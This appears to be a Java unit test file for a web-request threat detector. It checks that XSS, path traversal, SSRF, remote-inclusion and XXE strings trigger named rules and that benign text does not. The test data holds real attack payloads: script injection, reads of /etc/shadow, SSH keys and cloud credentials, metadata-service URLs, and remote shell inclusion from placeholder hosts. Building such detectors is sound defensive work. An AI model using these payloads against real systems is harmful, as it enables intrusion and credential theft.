package dev.bulwark.dataplane.threat.injection;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** XSS, traversal/LFI and remote inclusion/SSRF: one case per class of attack with the rule that must name it. */
class MarkupAndUrlTest {

    @ParameterizedTest(name = "{1}")
    @CsvSource(delimiter = '|', quoteCharacter = '~', textBlock = """
            xss-script-tag        | <script>alert(1)</script>
            xss-script-tag        | <SCRIPT SRC=//203.0.113.9/x.js></SCRIPT>
            xss-script-tag        | <x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>
            xss-script-tag        | %253Cscript%253Ealert(1)%253C%252Fscript%253E
            xss-script-tag        | &lt;script&gt;alert(1)&lt;/script&gt;
            xss-script-tag        | ＜script＞alert(1)＜/script＞
            xss-script-tag        | +ADw-script+AD4-alert(1)+ADw-/script+AD4-
            xss-event-handler     | <img src=x onerror=alert(1)>
            xss-event-handler     | <svg/onload=alert(1)>
            xss-event-handler     | <body onpageshow="alert(1)">
            xss-event-handler     | x" onmouseover="alert(1)
            xss-event-handler     | ' autofocus onfocus=alert(1) '
            xss-script-url        | javascript:alert(document.domain)
            xss-script-url        | <a href="jav&#x09;ascript:alert(1)">x</a>
            xss-script-url        | <iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">
            xss-script-url        | <div style="background:url(javascript:alert(1))">
            xss-dangerous-tag     | <iframe src=//203.0.113.9>
            xss-dangerous-tag     | <meta http-equiv="refresh" content="0;url=//203.0.113.9">
            xss-dangerous-tag     | <base href=//203.0.113.9/>
            xss-dangerous-tag     | <s c r i p t>
            xss-xml-namespace     | <x xmlns:xlink="http://www.w3.org/1999/xlink">
            xss-script-code       | document.cookie
            xss-script-code       | window['location']='//203.0.113.9'
            xss-script-code       | alert(1)
            xss-script-code       | eval(atob('YWxlcnQoMSk='))
            xss-script-code       | [].sort.call`${alert}1`
            xss-script-code       | (![]+[])[+!+[]]
            """)
    void crossSiteScripting(String rule, String payload) {
        Detection detection = Inspect.query(payload);

        assertThat(detection).isNotNull();
        assertThat(detection.ruleId()).isEqualTo(rule);
    }

    @ParameterizedTest(name = "{1}")
    @CsvSource(delimiter = '|', textBlock = """
            lfi-path-traversal    | ../../../../etc/hostname
            lfi-path-traversal    | ..%2f..%2f..%2fapp%2fconfig
            lfi-path-traversal    | %252e%252e%252fsecret
            lfi-path-traversal    | ..\\..\\windows\\win.ini
            lfi-path-traversal    | %c0%ae%c0%ae/%c0%ae%c0%ae/x
            lfi-path-traversal    | ....//....//x
            lfi-system-path       | /etc/shadow
            lfi-system-path       | /proc/self/environ
            lfi-system-path       | file=/var/log/auth.log
            lfi-sensitive-file    | home/user/.ssh/id_rsa
            lfi-sensitive-file    | c:\\boot.ini
            lfi-sensitive-file    | .aws/credentials
            ssrf-internal-host    | http://169.254.169.254/latest/meta-data/
            ssrf-internal-host    | http://localhost:8080/admin
            ssrf-internal-host    | https://[::1]/
            ssrf-internal-host    | http://10.0.0.5/
            ssrf-internal-host    | http://metadata.google.internal/computeMetadata/v1/
            ssrf-internal-host    | http://evil.example@127.0.0.1/
            ssrf-internal-host    | http://2130706433/
            ssrf-internal-host    | http://0x7f.1/
            ssrf-internal-host    | host.docker.internal:2375
            ssrf-obfuscated-ip    | http://0xCB007109/
            ssrf-obfuscated-ip    | http://[2001:db8::1]/
            rfi-ip-host           | http://203.0.113.9/shell.txt
            ssrf-dangerous-scheme | file:///etc/passwd
            ssrf-dangerous-scheme | gopher://203.0.113.9:6379/_INFO
            ssrf-dangerous-scheme | dict://internal:11211/stats
            ssrf-dangerous-scheme | jar:http://203.0.113.9/a.jar!/
            rfi-trailing-query    | https://evil.example/shell.txt?
            xxe-external-entity   | <!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>
            xxe-external-entity   | <xi:include href="file:///etc/passwd"/>
            """)
    void filesAndUrls(String rule, String payload) {
        Detection detection = Inspect.query(payload);

        assertThat(detection).isNotNull();
        assertThat(detection.ruleId()).isEqualTo(rule);
    }

    @ParameterizedTest
    @ValueSource(strings = {"/.env", "/.git/config", "/app/.svn/entries", "/backup/db.sql", "/logs/app.log", "/keys/server.pem"})
    void requestPathsToHiddenAndRestrictedFiles(String path) {
        Detection detection = Inspect.DEFAULT.inspectHead(path, null, java.util.List.of(),
                dev.bulwark.dataplane.threat.injection.hint.TypeHints.NONE);

        assertThat(detection).isNotNull();
        assertThat(detection.location()).isEqualTo("path");
    }

    @ParameterizedTest
    @ValueSource(strings = {"/.well-known/openid-configuration", "/api/v1/users/42", "/files/report.pdf", "/a/b.c/d"})
    void ordinaryRequestPathsAreNot(String path) {
        assertThat(Inspect.DEFAULT.inspectHead(path, null, java.util.List.of(),
                dev.bulwark.dataplane.threat.injection.hint.TypeHints.NONE)).isNull();
    }

    @ParameterizedTest
    @ValueSource(strings = {"<b>bold</b> and <i>italic</i>", "<p>See <a href=\"https://example.com\">this</a></p>",
        "<img src=\"https://cdn.example.com/a.png\" alt=\"logo\">", "I love JavaScript: it is great",
        "https://example.com/a/b?c=d&e=f", "http://example.com:8080/path", "example.com/", "images/logo.png",
        "see page 3 (appendix)", "group hosts issue self", "mailto:someone@example.com", "java.util.List",
        "onboarding is done", "Price: $5 (approx.)", "data:image/png;base64,iVBORw0KGgo=", "<?xml version=\"1.0\"?><svg></svg>",
        "Hello {{name}}, welcome!", "Dear ${firstName}"})
    void ordinaryMarkupTextAndUrlsAreNot(String text) {
        assertThat(Inspect.query(text)).isNull();
    }
}
